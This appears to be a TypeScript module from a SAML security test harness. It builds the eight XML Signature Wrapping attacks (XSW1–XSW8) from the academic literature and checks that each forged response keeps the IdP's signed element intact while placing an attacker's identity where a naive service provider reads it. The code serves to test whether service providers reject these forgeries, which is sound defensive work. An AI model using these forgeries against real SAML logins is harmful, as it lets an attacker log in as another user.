/**
 * XML Signature Wrapping, XSW1–XSW8, as Somorovsky et al. catalogue them and SAML Raider builds them:
 * the element the IdP signed stays intact, its canonical bytes unchanged (so its signature verifies
 * wherever a verifier finds it), and a forged copy carrying the attacker's NameID sits where a naive SP reads.
 * @see Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012, §4–5;
 *   SAML Raider (CompassSecurity) XSW1–8; SAML 2.0 Core §5.4.2 (the Reference points at the signed element's ID)
 */
import { NS, childElements, newSamlId, serialize } from '#harness/saml';
import {
  ELEMENT_NODE,
  elementsWithId,
  assertionOf,
  cloneElement,
  createLike,
  prepare,
  retarget,
  signatureOf,
  withoutSignature,
  type Prepared,
} from './dom.js';
import {
  ensure,
  ensureNaiveReads,
  isElement,
  nameIdText,
  onlySend,
  signedCopies,
  type NaiveRead,
} from './inspect.js';
import type { AttackVector, AttackVectorId, VectorContext } from './types.js';

interface WrappingSpec {
  id: Extract<AttackVectorId, `xsw${number}`>;
  title: string;
  /** Which element the IdP signed: a Response (XSW1/2) or an Assertion (XSW3–8). */
  signs: 'response' | 'assertion';
  /** Whether the forged copy keeps the signed element's ID (XSW7/8) or gets a new one. */
  sameId: boolean;
  /** The naive readers this layout fools (each must read the attacker). */
  fools: readonly NaiveRead[];
  /** The surgery, on a fresh legitimate response signed as `signs` says. */
  wrap(ctx: VectorContext, prepared: Prepared): void;
  /** Where the preserved signed element must sit; undefined when it does, else what is wrong. */
  placement(copy: Element, root: Element): string | undefined;
  /** What a vulnerable SP does, for the report. */
  vulnerable: string;
  references: string[];
}

const PAPER = 'Somorovsky et al. 2012, "On Breaking SAML", §5';

/** The forged element: a signature-less copy of `signed` for the attacker, with a new ID unless `sameId`. */
function forge(ctx: VectorContext, signed: Element, sameId: boolean): Element {
  const forged = withoutSignature(cloneElement(signed));
  if (!sameId) forged.setAttribute('ID', newSamlId());
  retarget(forged, ctx.victim, ctx.attacker);
  return forged;
}

/**
 * The Response's own assertion made the attacker's (XSW1/2): unsigned (its digest would not survive the edit)
 * and with a new ID, so the only duplicated thing is the wrapped Response and no stray ID trips a verifier early.
 */
function forgeInPlace(ctx: VectorContext, assertion: Element): void {
  withoutSignature(assertion);
  assertion.setAttribute('ID', newSamlId());
  retarget(assertion, ctx.victim, ctx.attacker);
}

/** The original, signature-less, to be moved; the element it was copied from becomes the forgery. */
function preserve(signed: Element): Element {
  return withoutSignature(cloneElement(signed));
}

const SPECS: readonly WrappingSpec[] = [
  {
    id: 'xsw1',
    title: 'XSW1: a forged Response around the signature, the signed Response copied inside ds:Signature',
    signs: 'response',
    sameId: false,
    fools: ['root-assertion'],
    wrap(ctx, { response }) {
      const signature = signatureOf(response)!;
      const original = preserve(response);
      forgeInPlace(ctx, assertionOf(response));
      response.setAttribute('ID', newSamlId());
      signature.appendChild(original);
    },
    placement: (copy, root) =>
      isElement(copy.parentNode, NS.ds, 'Signature') && copy.parentNode.parentNode === root
        ? undefined
        : 'the signed Response should sit inside the root Response’s ds:Signature',
    vulnerable:
      'verifies the signature wherever its Reference points (the copy inside ds:Signature), then reads the root Response’s assertion',
    references: [`${PAPER} (XSW1)`, 'SAML Raider XSW1'],
  },
  {
    id: 'xsw2',
    title:
      'XSW2: a forged Response, the signed Response copied as a sibling before the (now detached) signature',
    signs: 'response',
    sameId: false,
    fools: ['root-assertion'],
    wrap(ctx, { response }) {
      const signature = signatureOf(response)!;
      const original = preserve(response);
      forgeInPlace(ctx, assertionOf(response));
      response.setAttribute('ID', newSamlId());
      response.insertBefore(original, signature);
    },
    placement: (copy, root) =>
      copy.parentNode === root && isElement(nextElement(copy), NS.ds, 'Signature')
        ? undefined
        : 'the signed Response should be a child of the root Response right before its ds:Signature',
    vulnerable:
      'verifies the detached signature over the copied Response, then reads the root Response’s assertion',
    references: [`${PAPER} (XSW2)`, 'SAML Raider XSW2'],
  },
  {
    id: 'xsw3',
    title: 'XSW3: a forged assertion (new ID) inserted before the signed one',
    signs: 'assertion',
    sameId: false,
    fools: ['root-assertion', 'first-assertion', 'first-nameid'],
    wrap(ctx, { response, assertion }) {
      response.insertBefore(forge(ctx, assertion, false), assertion);
    },
    placement: (copy, root) => {
      const assertions = childElements(root, NS.saml, 'Assertion');
      return copy.parentNode === root &&
        assertions.length === 2 &&
        assertions[1] === copy &&
        signatureOf(copy) !== undefined &&
        signatureOf(assertions[0]!) === undefined
        ? undefined
        : 'the signed assertion, still carrying its signature, should follow an unsigned forged one in the Response';
    },
    vulnerable: 'verifies the signed assertion, then reads the first assertion in the document',
    references: [`${PAPER} (XSW3)`, 'SAML Raider XSW3'],
  },
  {
    id: 'xsw4',
    title: 'XSW4: a forged assertion (new ID) with the signed assertion moved inside it',
    signs: 'assertion',
    sameId: false,
    fools: ['root-assertion', 'first-assertion', 'first-nameid'],
    wrap(ctx, { response, assertion }) {
      const forged = forge(ctx, assertion, false);
      response.appendChild(forged);
      forged.appendChild(assertion);
    },
    placement: (copy, root) =>
      isElement(copy.parentNode, NS.saml, 'Assertion') && copy.parentNode.parentNode === root
        ? undefined
        : 'the signed assertion should be the child of a forged assertion of the Response',
    vulnerable: 'verifies the nested signed assertion, then reads the outer (forged) one',
    references: [`${PAPER} (XSW4)`, 'SAML Raider XSW4'],
  },
  {
    id: 'xsw5',
    title:
      'XSW5: the signed assertion edited in place (new ID, keeps its signature), an unsigned copy of the original appended',
    signs: 'assertion',
    sameId: false,
    fools: ['root-assertion', 'first-assertion', 'first-nameid'],
    wrap(ctx, { response, assertion }) {
      const original = preserve(assertion);
      assertion.setAttribute('ID', newSamlId());
      retarget(assertion, ctx.victim, ctx.attacker);
      response.appendChild(original);
    },
    placement: (copy, root) =>
      copy.parentNode === root &&
      childElements(root, NS.saml, 'Assertion').at(-1) === copy &&
      !signatureOf(copy)
        ? undefined
        : 'the signed original should be the last Assertion child of the Response, without a signature of its own',
    vulnerable:
      'verifies the signature found in the first assertion (its Reference resolves to the appended original), then reads the first assertion',
    references: [`${PAPER} (XSW5)`, 'SAML Raider XSW5'],
  },
  {
    id: 'xsw6',
    title: 'XSW6: the signed assertion edited in place (new ID), the original copied inside its ds:Signature',
    signs: 'assertion',
    sameId: false,
    fools: ['root-assertion', 'first-assertion'],
    wrap(ctx, { assertion }) {
      const original = preserve(assertion);
      assertion.setAttribute('ID', newSamlId());
      retarget(assertion, ctx.victim, ctx.attacker);
      signatureOf(assertion)!.appendChild(original);
    },
    placement: (copy, root) => {
      const signature = copy.parentNode;
      return isElement(signature, NS.ds, 'Signature') &&
        isElement(signature.parentNode, NS.saml, 'Assertion') &&
        signature.parentNode.parentNode === root
        ? undefined
        : 'the signed original should sit inside the ds:Signature of the forged assertion';
    },
    vulnerable:
      'verifies the signature of the first assertion (its Reference resolves to the copy inside ds:Signature), then reads that first assertion',
    references: [`${PAPER} (XSW6)`, 'SAML Raider XSW6'],
  },
  {
    id: 'xsw7',
    title: 'XSW7: a forged assertion with the same ID inside samlp:Extensions, before the signed one',
    signs: 'assertion',
    sameId: true,
    fools: ['first-assertion', 'first-nameid'],
    wrap(ctx, { doc, response, assertion }) {
      // Extensions takes any foreign content (lax), so a schema-validating SP lets it through; before Status is
      // where the schema puts it (StatusResponseType: Issuer?, Signature?, Extensions?, Status).
      const extensions = createLike(doc, NS.samlp, response, 'Extensions');
      extensions.appendChild(forge(ctx, assertion, true));
      response.insertBefore(extensions, childElements(response, NS.samlp, 'Status')[0] ?? assertion);
    },
    placement: (copy, root) =>
      copy.parentNode === root && childElements(root, NS.samlp, 'Extensions').length === 1
        ? undefined
        : 'the signed assertion should stay a child of the Response, the forgery inside samlp:Extensions',
    vulnerable:
      'resolves the duplicated ID to the signed assertion (e.g. last registration wins), then reads the first assertion in the document',
    references: [`${PAPER} (XSW7)`, 'SAML Raider XSW7', 'SAML 2.0 Core §3.2.2 (Extensions)'],
  },
  {
    id: 'xsw8',
    title:
      'XSW8: the signed assertion edited in place (same ID), the original copied into a ds:Object of its signature',
    signs: 'assertion',
    sameId: true,
    fools: ['root-assertion', 'first-assertion'],
    wrap(ctx, { doc, assertion }) {
      const original = preserve(assertion);
      retarget(assertion, ctx.victim, ctx.attacker);
      const signature = signatureOf(assertion)!;
      const object = createLike(doc, NS.ds, signature, 'Object');
      object.appendChild(original);
      signature.appendChild(object);
    },
    placement: (copy) => {
      const object = copy.parentNode;
      return isElement(object, NS.ds, 'Object') && isElement(object.parentNode, NS.ds, 'Signature')
        ? undefined
        : 'the signed original should sit in a ds:Object inside the forged assertion’s ds:Signature';
    },
    vulnerable:
      'resolves the duplicated ID to the copy inside ds:Object (e.g. last registration wins), then reads the outer assertion',
    references: [`${PAPER} (XSW8)`, 'SAML Raider XSW8', 'XML Signature §4.5 (Object)'],
  },
];

function nextElement(node: Node): Node | null {
  let next = node.nextSibling;
  while (next && next.nodeType !== ELEMENT_NODE) next = next.nextSibling;
  return next;
}

function wrappingVector(spec: WrappingSpec): AttackVector {
  const kind = spec.signs === 'response' ? 'Response' : 'Assertion';
  return {
    id: spec.id,
    title: spec.title,
    expect: 'reject',
    bypassIdentity: 'attacker',
    signs: spec.signs,
    cites: ['SAML-XSW'],
    references: spec.references,
    async build(ctx) {
      const prepared = await prepare(
        ctx,
        ctx.victim,
        spec.signs === 'response' ? { response: true } : { assertion: true, response: false },
      );
      spec.wrap(ctx, prepared);
      return {
        sends: [serialize(prepared.doc)],
        description:
          `${spec.title}. The IdP signed the ${kind} for ${ctx.victim}; it is preserved intact (the canonical bytes the IdP signed), so its ` +
          `signature still verifies. A vulnerable SP ${spec.vulnerable} and logs in ${ctx.attacker}.`,
      };
    },
    async check(ctx, built) {
      const { doc } = onlySend(spec.id, built.sends);
      const root = doc.documentElement!;
      const copies = signedCopies(doc, ctx.idpKey).filter((copy) => copy.element.localName === kind);
      ensure(
        copies.length > 0,
        spec.id,
        `no ${kind} in the message verifies with the IdP key any more: the signed element was not preserved intact`,
      );
      const victimCopy = copies.find(({ element }) => {
        const assertion = kind === 'Response' ? childElements(element, NS.saml, 'Assertion')[0] : element;
        return nameIdText(assertion) === ctx.victim;
      });
      ensure(
        victimCopy,
        spec.id,
        `the signed ${kind} that still verifies does not carry the victim '${ctx.victim}'`,
      );
      const misplaced = spec.placement(victimCopy.element, root);
      ensure(
        misplaced === undefined,
        spec.id,
        `${misplaced ?? ''} (not the ${spec.id.toUpperCase()} layout)`,
      );
      const holders = elementsWithId(doc, victimCopy.id).length;
      ensure(
        spec.sameId ? holders === 2 : holders === 1,
        spec.id,
        spec.sameId
          ? `the forged copy must carry the signed ID '${victimCopy.id}' too; ${holders} element(s) carry it`
          : `the forged element must have a new ID, but ${holders} elements carry the signed ID '${victimCopy.id}'`,
      );
      ensureNaiveReads(spec.id, doc, spec.fools, ctx.attacker);
    },
  };
}

/** XSW1–XSW8. */
export const wrappingVectors: readonly AttackVector[] = SPECS.map(wrappingVector);

/** The naive readers each XSW variant fools (for tests and reports). */
export const WRAPPING_FOOLS: Readonly<Record<string, readonly NaiveRead[]>> = Object.fromEntries(
  SPECS.map((spec) => [spec.id, spec.fools]),
);
